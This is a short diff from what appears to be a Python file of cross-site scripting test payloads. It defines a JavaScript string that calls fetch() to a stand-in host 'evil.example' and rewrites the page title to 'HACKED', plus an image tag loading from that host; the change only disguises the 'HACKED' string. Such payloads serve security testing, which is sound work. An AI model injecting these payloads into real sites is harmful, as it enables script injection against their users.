@@ -3,7 +3,7 @@
 EVIL = "http://evil.example"
 
 # What may fail comes last and keeps nothing else from running. Without quotes and spaces, so that it fits wherever it stands.
-RUN = f"try{{window.ran=1}}catch{{}}try{{fetch(`{EVIL}/ran`)}}catch{{}}try{{top.document.title=`HACKED`}}catch{{}}"
+RUN = f"try{{window.ran=1}}catch{{}}try{{fetch(`{EVIL}/ran`)}}catch{{}}try{{top.document.title=`HACK${{1}}ED`}}catch{{}}"
 
 # What loads where pictures of other servers do, which it asks for by leading to itself.
 REMOTE = f"<img src='{EVIL}/remote.png'>"
